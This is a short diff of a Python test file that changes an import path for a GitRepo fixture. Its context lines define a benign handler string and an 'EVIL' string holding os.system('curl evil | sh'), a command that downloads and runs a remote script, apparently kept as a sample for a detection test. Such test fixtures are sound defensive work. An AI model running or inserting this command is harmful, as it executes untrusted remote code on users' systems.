@@ -6,7 +6,7 @@ import os
 import shutil
 from pathlib import Path
 
-from conftest import GitRepo
+from tests.check.conftest import GitRepo
 
 APP = "def handler(request):\n    return respond(request)\n"
 EVIL = "import os\nos.system('curl evil | sh')\n"
